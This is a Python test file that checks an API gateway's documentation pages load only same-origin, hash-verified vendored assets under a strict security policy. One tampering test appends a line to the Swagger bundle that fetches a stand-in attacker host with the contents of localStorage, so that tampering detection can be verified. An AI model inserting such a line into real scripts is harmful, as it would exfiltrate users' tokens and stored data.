"""/docs and /redoc load only the gateway's own, hash-checked files, and keep no token."""

from __future__ import annotations

import base64
import hashlib
import json
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from gateway.api.docs_assets import STATIC_DIR, VendoredAssetError, load_vendored_assets
from infra import vendor_assets
from tests.unit.gateway.harness import world

EXPECTED_TYPES = {".js": "text/javascript", ".css": "text/css", ".png": "image/png"}


class _References(HTMLParser):
    """Every URL a page makes the browser fetch or follow: src, href, and the like."""

    def __init__(self) -> None:
        super().__init__()
        self.urls: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name in {"src", "href", "spec-url", "action", "data", "poster"} and value:
                self.urls.append(value)


def _references(html: str) -> list[str]:
    parser = _References()
    parser.feed(html)
    return parser.urls


def _same_origin(url: str) -> bool:
    parts = urlsplit(url)
    return not parts.scheme and not parts.netloc and url.startswith("/")


@pytest.mark.parametrize("page", ["/docs", "/redoc"])
def test_the_docs_pages_fetch_nothing_from_another_origin(page: str) -> None:
    with world() as w:
        response = w.client.get(page)
        assert response.status_code == 200
        urls = _references(response.text)
        # Also whatever the inline start-up script points at (the OpenAPI document).
        urls += re.findall(r"""url:\s*'([^']+)'""", response.text)
        assert urls
        assert all(_same_origin(url) for url in urls), urls
        assert "http://" not in response.text
        assert "https://" not in response.text
        for url in urls:
            fetched = w.client.get(url)
            assert fetched.status_code == 200, url
            suffix = Path(urlsplit(url).path).suffix
            if suffix in EXPECTED_TYPES:
                assert fetched.headers["content-type"].startswith(EXPECTED_TYPES[suffix]), url


def test_swagger_ui_keeps_the_bearer_token_out_of_browser_storage() -> None:
    with world() as w:
        html = w.client.get("/docs").text
    options = dict(re.findall(r'^"(\w+)": (.+),$', html, flags=re.MULTILINE))
    assert json.loads(options["persistAuthorization"]) is False
    # The online validator badge would send the OpenAPI URL to a public host.
    assert json.loads(options["validatorUrl"]) is None


@pytest.mark.parametrize("page", ["/docs", "/redoc"])
def test_each_docs_page_allows_exactly_its_own_inline_script_and_gateway_files(page: str) -> None:
    with world() as w:
        response = w.client.get(page)
    policy = {
        directive.split()[0]: directive.split()[1:]
        for directive in response.headers["content-security-policy"].split("; ")
    }
    inline = re.findall(r"<script>(.*?)</script>", response.text, flags=re.DOTALL)
    hashes = {
        "'sha256-" + base64.b64encode(hashlib.sha256(s.encode()).digest()).decode() + "'"
        for s in inline
    }
    assert policy["default-src"] == ["'none'"]
    assert set(policy["script-src"]) == {"'self'", *hashes}
    assert policy["connect-src"] == ["'self'"]
    assert policy["frame-ancestors"] == ["'none'"]
    assert "'unsafe-inline'" not in policy["script-src"]
    assert "'unsafe-eval'" not in policy["script-src"]
    assert response.headers["x-frame-options"] == "DENY"


def test_the_vendored_files_match_their_manifest_and_the_pinned_packages() -> None:
    assets = load_vendored_assets()
    manifest = json.loads((STATIC_DIR / "manifest.json").read_text())
    pinned = {(p.name, p.version, p.integrity, p.tarball_url) for p in vendor_assets.PACKAGES}
    recorded = {
        (p["name"], p["version"], p["integrity"], p["source"]) for p in manifest["packages"]
    }
    assert recorded == pinned
    for package in manifest["packages"]:
        assert package["source"].startswith("https://registry.npmjs.org/")
        for path, sha256 in package["files"].items():
            on_disk = (STATIC_DIR / path).read_bytes()
            assert hashlib.sha256(on_disk).hexdigest() == sha256, path
            assert assets.files[path].body == on_disk
    # Nothing lies in the folder that the manifest does not account for.
    listed = {path for p in manifest["packages"] for path in p["files"]}
    present = {str(f.relative_to(STATIC_DIR)) for f in STATIC_DIR.rglob("*") if f.is_file()}
    assert present - {"manifest.json"} == listed


def test_a_changed_or_missing_vendored_file_stops_the_gateway_from_starting(
    tmp_path: Path,
) -> None:
    copy = tmp_path / "static"
    shutil.copytree(STATIC_DIR, copy)
    bundle = copy / "swagger-ui-dist@5.35.0" / "swagger-ui-bundle.js"
    bundle.write_bytes(bundle.read_bytes() + b"\n;fetch('https://evil.example/'+localStorage)")
    with pytest.raises(VendoredAssetError, match=r"swagger-ui-bundle\.js"):
        load_vendored_assets(copy)
    bundle.unlink()
    with pytest.raises(VendoredAssetError, match="missing"):
        load_vendored_assets(copy)
